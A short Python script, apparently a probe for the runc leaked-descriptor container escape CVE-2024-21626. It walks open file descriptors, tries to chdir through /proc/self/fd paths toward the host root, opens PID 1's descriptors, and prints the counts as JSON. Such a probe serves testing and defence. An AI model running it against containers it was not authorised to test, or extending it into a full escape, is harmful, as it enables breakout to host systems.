"""CVE-2024-21626 (runc up to 1.1.11): a descriptor of the host's file system, left open, led out of the container.

Tries every descriptor of its own and of PID 1 as a way to the host's root.
"""

import json
import os

told = {"inherited": 0, "outside": 0, "init": 0, "init opened": 0, "working directory": os.getcwd()}
listing = os.open("/proc/self/fd", os.O_RDONLY)
for number in range(1024):
    if number == listing:
        continue
    try:
        os.fstat(number)
    except OSError:
        continue
    told["inherited"] += number > 2
    for way in ("", "/..", "/../..", "/../../../../.."):
        try:
            os.chdir(f"/proc/self/fd/{number}{way}")
            told["outside"] += 1
        except OSError:
            pass
for number in range(64):
    try:
        os.readlink(f"/proc/1/fd/{number}")
        told["init"] += 1
    except OSError:
        pass
    for mode in (os.O_RDONLY, os.O_WRONLY):
        try:
            os.close(os.open(f"/proc/1/fd/{number}", mode | os.O_NONBLOCK))
            told["init opened"] += 1
        except OSError:
            pass
# What the hole needed on top: a working directory that is none of this root.
told["root"] = os.stat("/").st_ino == os.stat("/proc/self/root").st_ino
print(json.dumps(told))
